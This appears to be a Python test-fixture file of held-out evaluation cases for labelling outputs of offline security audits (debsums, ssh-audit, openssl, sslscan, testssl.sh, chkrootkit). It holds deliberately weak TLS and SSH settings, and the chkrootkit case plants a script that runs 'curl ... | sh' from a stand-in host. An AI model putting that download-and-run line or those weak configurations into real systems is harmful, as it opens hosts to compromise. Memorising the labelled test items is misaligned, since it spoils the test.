"""Held-out outputs (group ``unseen-36``): a thirty-sixth batch, host security and integrity audits as an ops agent
runs them offline, against trees, servers and certificates the scenario builds in its own folder (the real machine
is never changed: servers listen on high ports of 127.0.0.1 and are killed afterwards).

Failing runs: ``debsums -a --root`` over a prepared tree of 40 packages named after the business areas where one
shipped file of the ledger package was changed (about 750 ``OK`` lines), the same over the 60 ``errors``,
``exceptions`` and ``retry`` packages where one template is missing, ``ssh-audit`` of six bastion sshd servers
started from the scenario's folder with hardened configurations where the orders bastion still offers ``hmac-sha1``,
``openssl s_client -verify_return_error`` against eight TLS services of a private CA where the refunds service
presents an expired certificate, ``sslscan`` of six TLS services where the tax service also accepts anonymous and
unencrypted ciphers (``ECDHE-ECDSA-NULL-SHA``), ``testssl.sh`` against a ledger TLS endpoint whose certificate
expired, and ``chkrootkit -r`` over a prepared root where a hidden directory sits in ``/usr/lib``. Clean runs whose
text talks about errors: ``openssl s_client`` against ``errors``, ``exceptions`` and ``retry`` services whose
certificates all verify, ``ssh-audit`` of hardened bastions for the ``errors`` and ``failures`` teams, ``sslscan``
of services named after failures that only offer TLS 1.2 and 1.3, and ``chkrootkit -r`` over a root whose files are
named after errors and failures. Certificates are signed with Ed25519 keys from fixed seeds, so their bytes and
fingerprints are the same on every run. Labels were written with each scenario, before the engine saw the output.
Needs OpenSSH's sshd, sslscan, testssl.sh, chkrootkit and debsums (Debian ``openssh-server``, ``sslscan``,
``testssl.sh``, ``chkrootkit``, ``debsums``) with ``ssh-audit`` from PyPI and ``cryptography`` in the venv.
"""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import time
from contextlib import contextmanager, suppress
from pathlib import Path

from _harness import PY, WORDS, case, py_tools, scrub, sh, substitute, write

GROUP = "unseen-36"

_SSH_AUDIT = "ssh-audit==3.9.0"

# ---------------------------------------------------------------- servers started from the scenario's folder


@contextmanager
def _servers(cmds: list[tuple[str, Path]], *, wait: float = 1.5):
    """Start each ``(command, cwd)`` in its own process group; kill them all on the way out."""
    procs = []
    try:
        for cmd, cwd in cmds:
            log = open(cwd / f"server-{len(procs)}.log", "wb")  # noqa: SIM115
            procs.append(
                subprocess.Popen(cmd, shell=True, cwd=cwd, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
            )
        time.sleep(wait)
        yield procs
    finally:
        for proc in procs:
            with suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGTERM)
        for proc in procs:
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)


# ---------------------------------------------------------------- certificates (Ed25519 from fixed seeds)

_CERTS_PY = r"""
import datetime, hashlib, json, sys
from cryptography import x509
from cryptography.x509.oid import NameOID
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

spec = json.load(open(sys.argv[1]))
def key(seed):
    return Ed25519PrivateKey.from_private_bytes(hashlib.sha256(seed.encode()).digest())
def pem(k):
    return k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                           serialization.NoEncryption())
ca_key = key("shop-ops-root-ca")
ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Shop Ops Internal Root CA"),
                     x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Shop Ops")])
day = datetime.datetime.fromisoformat
ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name).public_key(ca_key.public_key())
      .serial_number(0x5A17C0DE0001).not_valid_before(day("2024-01-01")).not_valid_after(day("2040-01-01"))
      .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
      .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False), critical=True)
      .sign(ca_key, None))
open("ca.pem", "wb").write(ca.public_bytes(serialization.Encoding.PEM))
for n, (name, nb, na, *kind) in enumerate(spec):
    k = key("service-" + name)
    if kind == ["ec"]:  # a P-256 key derived from the seed (testssl.sh does not handle Ed25519 server keys)
        seed = hashlib.sha256(("service-" + name).encode()).digest()
        k = ec.derive_private_key(int.from_bytes(seed[:31], "big"), ec.SECP256R1())
    subj = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name + ".shop.internal"),
                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Shop Ops")])
    cert = (x509.CertificateBuilder().subject_name(subj).issuer_name(ca_name).public_key(k.public_key())
            .serial_number(0x5A17C0DE1000 + n).not_valid_before(day(nb)).not_valid_after(day(na))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(name + ".shop.internal"),
                                                        x509.DNSName("localhost")]), critical=False)
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
            .sign(ca_key, None))
    open(name + ".key", "wb").write(pem(k))
    open(name + ".pem", "wb").write(cert.public_bytes(serialization.Encoding.PEM) +
                                    ca.public_bytes(serialization.Encoding.PEM))
"""


def _certs(root: Path, spec: list[tuple[str, ...]]) -> None:
    import json

    write(root, {"certs.py": _CERTS_PY})
    (root / "spec.json").write_text(json.dumps(spec))
    out = sh(f"{PY} certs.py spec.json", root)
    assert b"exit status" not in out, out


def _s_server(name: str, port: int, extra: str = "") -> str:
    tls = f"-cert {name}.pem -key {name}.key -www -quiet -num_tickets 0"
    return f"exec openssl s_server -accept 127.0.0.1:{port} {tls} {extra}"


_VALID = ("2026-01-01", "2030-01-01")

_TLS_VARYING = (
    (r"^(\s*Session-ID: ).*$", r"\1<session-id>"),
    (r"^(\s*Master-Key: ).*$", r"\1<master-key>"),
    (r"^(\s*Start Time: ).*$", r"\1<start-time>"),
    (r"^(\s*Resumption PSK: ).*$", r"\1<psk>"),
    (r"^\s*[0-9a-f]{4} - (?:[0-9a-f]{2}[ -]){1,16}.*$", "    <ticket bytes>"),
    (r"^(\s*TLS session ticket lifetime hint: ).*$", r"\1<hint>"),
    (r"^(\s*Max Early Data: ).*$", r"\1<n>"),
    (r"^[0-9A-F]{8,16}:error:", "<thread>:error:"),
)


def _s_client_loop(root: Path, services: list[str], base: int) -> bytes:
    lines = ["#!/bin/sh", "status=0"]
    for i, name in enumerate(services):
        lines += [
            f'echo "=== {name}.shop.internal:443 (127.0.0.1:{base + i}) ==="',
            f"openssl s_client -connect 127.0.0.1:{base + i} -servername {name}.shop.internal -CAfile ca.pem "
            f"-verify_return_error -verify_hostname {name}.shop.internal -showcerts -no_ign_eof </dev/null "
            "|| status=1",
        ]
    lines.append("exit $status")
    (root / "check_tls.sh").write_text("\n".join(lines) + "\n")
    return sh("sh check_tls.sh 2>&1", root)


# ---------------------------------------------------------------- openssl s_client


@case(
    "u36_openssl_s_client_eight_services_refunds_expired",
    "openssl s_client -verify_return_error -showcerts (8 local TLS services, private CA)",
    clean=False,
    group=GROUP,
    decisive=[
        "=== refunds.shop.internal:443",
        "verify error:num=10:certificate has expired",
        "Verify return code: 10 (certificate has expired)",
        "[exit status 1]",
    ],
)
def _s_client_bad(root: Path) -> bytes:
    services = ["billing", "orders", "cart", "tax", "refunds", "invoice", "shipping", "catalog"]
    spec = [(s, "2024-01-01", "2025-06-30") if s == "refunds" else (s, *_VALID) for s in services]
    _certs(root, spec)
    base = 45101
    with _servers([(_s_server(s, base + i), root) for i, s in enumerate(services)]):
        out = _s_client_loop(root, services, base)
    return substitute(scrub(out, root), *_TLS_VARYING, (r"127\.0\.0\.1:451\d\d", "127.0.0.1:<port>"))


@case(
    "u36_openssl_s_client_error_services_all_verified_clean",
    "openssl s_client -verify_return_error -showcerts (services named errors, exceptions, retry)",
    clean=True,
    group=GROUP,
    decisive=["Verify return code: 0 (ok)"],
)
def _s_client_clean(root: Path) -> bytes:
    services = ["errors", "exceptions", "retry", "failures", "dead-letters", "audit"]
    _certs(root, [(s, *_VALID) for s in services])
    base = 45121
    with _servers([(_s_server(s, base + i), root) for i, s in enumerate(services)]):
        out = _s_client_loop(root, services, base)
    return substitute(scrub(out, root), *_TLS_VARYING, (r"127\.0\.0\.1:451\d\d", "127.0.0.1:<port>"))


# ---------------------------------------------------------------- sslscan


def _sslscan(root: Path, services: list[str], base: int, weak: dict[str, str]) -> bytes:
    targets = "\n".join(f"127.0.0.1:{base + i}" for i in range(len(services))) + "\n"
    (root / "targets.txt").write_text(targets)
    cmds = [(_s_server(s, base + i, weak.get(s, "")), root) for i, s in enumerate(services)]
    with _servers(cmds):
        out = sh("sslscan --no-colour --targets=targets.txt", root)
    return substitute(scrub(out, root), (r"^(\s*Connected to ).*$", r"\g<1>127.0.0.1"))


@case(
    "u36_sslscan_six_services_tax_accepts_null_cipher",
    "sslscan --no-colour --targets (6 local TLS services)",
    clean=False,
    group=GROUP,
    decisive=["Testing SSL server 127.0.0.1 on port 45145", "Accepted  TLSv1.2  0 bits    ECDHE-ECDSA-NULL-SHA"],
)
def _sslscan_bad(root: Path) -> bytes:
    services = ["billing", "orders", "cart", "tax", "pricing", "coupons"]
    _certs(root, [(s, *_VALID) for s in services])
    weak = {"tax": "-cipher 'ALL:eNULL:@SECLEVEL=0'"}
    return _sslscan(root, services, 45142, weak)


@case(
    "u36_sslscan_failure_named_services_tls12_13_only_clean",
    "sslscan --no-colour --targets (services named errors, failures, retry)",
    clean=True,
    group=GROUP,
    decisive=["TLSv1.0   disabled", "TLSv1.3   enabled"],
)
def _sslscan_clean(root: Path) -> bytes:
    services = ["errors", "failures", "retry", "exceptions"]
    _certs(root, [(s, *_VALID) for s in services])
    return _sslscan(root, services, 45162, {})


# ---------------------------------------------------------------- testssl.sh


@case(
    "u36_testssl_ledger_endpoint_certificate_expired",
    "testssl --quiet --color 0 -p -s -f -P -S -h -U (local TLS endpoint)",
    clean=False,
    group=GROUP,
    decisive=["Chain of trust               NOT ok (expired)", "Certificate Validity (UTC)   expired"],
)
def _testssl_bad(root: Path) -> bytes:
    _certs(root, [("ledger", "2024-03-01", "2025-03-01", "ec")])
    with _servers([(_s_server("ledger", 45181), root)]):
        out = sh("testssl --quiet --color 0 --warnings off --add-ca ca.pem -p -s -f -P -S -h -U 127.0.0.1:45181", root)
    return substitute(
        scrub(out, root),
        (r"^( Start| Done) \d{4}-\d\d-\d\d \d\d:\d\d:\d\d( \[ *\d+s\])?", r"\1 <time>"),
        (r"^( Session Resumption\s+).*$", r"\1<varies>"),
        (r"^( Session Ticket RFC 5077 hint\s+).*$", r"\1<varies>"),
        (r"^( TLS clock skew\s+).*$", r"\1<varies>"),
        (r"^( HTTP clock skew\s+).*$", r"\1<varies>"),
    )


# ---------------------------------------------------------------- ssh-audit


_SSH_HARDENED = """
KexAlgorithms sntrup761x25519-sha512@openssh.com
Ciphers chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com
MACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com,umac-128-etm@openssh.com
HostKeyAlgorithms ssh-ed25519
"""


def _ssh_audit(root: Path, bastions: list[str], base: int, weak: dict[str, str]) -> bytes:
    env = py_tools(root, _SSH_AUDIT)
    Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege separation directory (empty)
    cmds = []
    for i, name in enumerate(bastions):
        d = root / name
        d.mkdir()
        sh(f"ssh-keygen -q -t ed25519 -N '' -C {name}-bastion -f {d}/ssh_host_ed25519_key", root)
        config = (
            f"Port {base + i}\nListenAddress 127.0.0.1\nHostKey {d}/ssh_host_ed25519_key\nPidFile {d}/sshd.pid\n"
            f"PasswordAuthentication no\nUsePAM no\nPerSourceMaxStartups 1\n" + weak.get(name, _SSH_HARDENED).lstrip()
        )
        (d / "sshd_config").write_text(config)
        cmds.append((f"exec /usr/sbin/sshd -D -f {d}/sshd_config -E {d}/sshd.log", d))
    script = ["#!/bin/sh", "status=0"]
    for i, name in enumerate(bastions):
        script += [
            f'echo "##### bastion-{name} (127.0.0.1:{base + i})"',
            f"ssh-audit --no-colors --skip-rate-test -p {base + i} 127.0.0.1 || status=$?",
        ]
    script.append("exit $status")
    (root / "audit_bastions.sh").write_text("\n".join(script) + "\n")
    with _servers(cmds):
        out = sh(f"{env} sh audit_bastions.sh", root)
    return substitute(
        scrub(out, root),
        (r"^(\(fin\) ssh-ed25519: SHA256:)\S+", r"\1<fingerprint>"),
        (r"127\.0\.0\.1:45\d\d\d", "127.0.0.1:<port>"),
    )


@case(
    "u36_ssh_audit_six_bastions_orders_offers_hmac_sha1",
    "ssh-audit --no-colors --skip-rate-test (6 local sshd bastions)",
    clean=False,
    group=GROUP,
    decisive=[
        "##### bastion-orders",
        "(mac) hmac-sha1                           -- [fail] using broken SHA-1 hash algorithm",
        "[exit status 3]",
    ],
)
def _ssh_audit_bad(root: Path) -> bytes:
    bastions = ["billing", "orders", "shipping", "ledger", "webhooks", "export"]
    weak = {"orders": _SSH_HARDENED.replace("umac-128-etm@openssh.com", "umac-128-etm@openssh.com,hmac-sha1")}
    return _ssh_audit(root, bastions, 45201, weak)


@case(
    "u36_ssh_audit_errors_failures_bastions_hardened_clean",
    "ssh-audit --no-colors --skip-rate-test (hardened bastions of the errors and failures teams)",
    clean=True,
    group=GROUP,
    decisive=["(kex) sntrup761x25519-sha512@openssh.com"],
)
def _ssh_audit_clean(root: Path) -> bytes:
    return _ssh_audit(root, ["errors", "failures", "exceptions", "retry"], 45221, {})


# ---------------------------------------------------------------- debsums over a prepared tree


#: debsums walks a Perl hash of the conffiles: a fixed hash seed gives the same order on every run.
_PERL_FIXED = {"PERL_HASH_SEED": "0", "PERL_PERTURB_KEYS": "0"}


def _package_tree(root: Path, packages: dict[str, list[str]]) -> Path:
    tree = root / "tree"
    info = tree / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    status = []
    for pkg, files in packages.items():
        sums, listed = [], ["/."]
        for rel in files:
            path = tree / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            text = f"# {rel} shipped by {pkg} 1.4.2\n" + "".join(f"{pkg} line {n}\n" for n in range(20))
            path.write_text(text)
            sums.append(f"{hashlib.md5(text.encode()).hexdigest()}  {rel}")
            listed.append("/" + rel)
        (info / f"{pkg}.md5sums").write_text("\n".join(s for s in sums if not s.split()[1].startswith("etc/")) + "\n")
        (info / f"{pkg}.list").write_text("\n".join(listed) + "\n")
        conffiles = [f" /{line.split()[1]} {line.split()[0]}" for line in sums if line.split()[1].startswith("etc/")]
        status.append(
            f"Package: {pkg}\nStatus: install ok installed\nPriority: optional\nSection: misc\n"
            f"Maintainer: Shop Ops <ops@shop.internal>\nArchitecture: all\nVersion: 1.4.2\n"
            + ("Conffiles:\n" + "\n".join(conffiles) + "\n" if conffiles else "")
            + f"Description: {pkg} service of the shop\n"
        )
    (tree / "var/lib/dpkg/status").write_text("\n".join(status))
    return tree


def _shop_packages(kinds: list[str]) -> dict[str, list[str]]:
    packages = {}
    for area in WORDS:
        for kind in kinds:
            pkg = f"shop-{area}-{kind}"
            files = [f"etc/shop/{area}/{kind}.conf", f"etc/shop/{area}/{kind}-logging.conf"]
            files += [
                f"usr/lib/shop/{area}/{kind}/{m}.py"
                for m in ("__init__", "handlers", "models", "errors", "retry", "client", "tasks", "schemas")
            ]
            files += [f"usr/share/doc/{pkg}/{d}" for d in ("README", "changelog.Debian.gz", "copyright")]
            files += [f"usr/bin/{pkg}"]
            files += [f"usr/share/shop/{area}/{kind}/templates/{t}.html"
                      for t in ("index", "error", "failure", "list", "detail")]  # fmt: skip
            packages[pkg] = files
    return packages


@case(
    "u36_debsums_forty_shop_packages_ledger_module_changed",
    "debsums -a --root (prepared tree of 40 shop packages)",
    clean=False,
    group=GROUP,
    decisive=["/tmp/work/tree/usr/lib/shop/ledger/api/retry.py", "FAILED", "[exit status 2]"],
)
def _debsums_bad(root: Path) -> bytes:
    tree = _package_tree(root, _shop_packages(["api", "worker"]))
    target = tree / "usr/lib/shop/ledger/api/retry.py"
    target.write_text(target.read_text() + "MAX_RETRIES = 50  # hotfix applied by hand on the host\n")
    return scrub(sh(f"debsums -a --root={tree}", root, env=_PERL_FIXED), root)


@case(
    "u36_debsums_error_handling_packages_one_template_missing",
    "debsums -a --root (prepared tree of the errors, exceptions and retry packages)",
    clean=False,
    group=GROUP,
    decisive=[
        "debsums: missing file /tmp/work/tree/usr/share/shop/refunds/errors/templates/failure.html"
        " (from shop-refunds-errors package)",
        "[exit status 2]",
    ],
)
def _debsums_missing(root: Path) -> bytes:
    tree = _package_tree(root, _shop_packages(["errors", "exceptions", "retry"]))
    (tree / "usr/share/shop/refunds/errors/templates/failure.html").unlink()
    return scrub(sh(f"debsums -a --root={tree}", root, env=_PERL_FIXED), root)


# ---------------------------------------------------------------- chkrootkit over a prepared root

_CHKROOTKIT_TESTS = (
    "aliens asp rexedcs w55808 OSX_RSPLUG amd basename biff chfn chsh cron crontab date du dirname echo egrep env "
    "find fingerd gpm grep hdparm su ifconfig inetd inetdconf identd init killall ldsopreload login ls lsof mail "
    "mingetty netstat named passwd pidof pop2 pop3 ps pstree rpcinfo rlogind rshd slogin sendmail sshd syslogd tar "
    "tcpd tcpdump top telnetd timed traceroute vdir w write"
)

_BINARIES = ["basename", "chfn", "chsh", "crontab", "date", "du", "dirname", "egrep", "env", "find", "grep", "su",
             "login", "ls", "passwd", "pidof", "ps", "tar", "top", "vdir", "w", "write", "killall"]  # fmt: skip


def _fake_root(root: Path, names: list[str]) -> Path:
    r = root / "hostroot"
    for d in ("bin", "sbin", "usr/bin", "usr/sbin", "usr/lib", "etc", "dev", "tmp", "var/tmp", "var/log", "root"):
        (r / d).mkdir(parents=True, exist_ok=True)
    for b in _BINARIES:
        src = subprocess.run(["sh", "-c", f"command -v {b}"], capture_output=True, text=True).stdout.strip()
        if src:
            (r / "usr/bin" / b).write_bytes(Path(src).resolve().read_bytes())
            (r / "usr/bin" / b).chmod(0o755)
    for n in names:
        (r / "etc" / f"{n}.conf").write_text(f"# {n} settings\nlevel = error\n")
        (r / "var/log" / f"{n}.log").write_text(f"ERROR {n}: handled and retried\n")
    (r / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    return r


def _chkrootkit(root: Path, r: Path) -> bytes:
    out = sh(f"chkrootkit -r {r} {_CHKROOTKIT_TESTS}", root)
    return substitute(scrub(out, root), (r"^RTNETLINK answers: .*\n", ""))


@case(
    "u36_chkrootkit_prepared_root_hidden_dir_in_usr_lib",
    "chkrootkit -r (prepared root of the billing host)",
    clean=False,
    group=GROUP,
    decisive=[
        "The following suspicious files and directories were found:",
        "/tmp/work/hostroot/usr/lib/.billing-sync",
    ],
)
def _chkrootkit_bad(root: Path) -> bytes:
    r = _fake_root(root, [f"{w}-service" for w in WORDS])
    hidden = r / "usr/lib/.billing-sync"
    hidden.mkdir()
    (hidden / "sync.sh").write_text("#!/bin/sh\ncurl -s http://198.51.100.7/p | sh\n")
    return _chkrootkit(root, r)


@case(
    "u36_chkrootkit_prepared_root_error_named_files_clean",
    "chkrootkit -r (prepared root whose files are named after errors)",
    clean=True,
    group=GROUP,
    decisive=["Searching for suspicious files and dirs...                  not found"],
)
def _chkrootkit_clean(root: Path) -> bytes:
    r = _fake_root(root, ["errors", "failures", "exceptions", "retry", "dead-letter", "panic", "segfault"])
    return _chkrootkit(root, r)
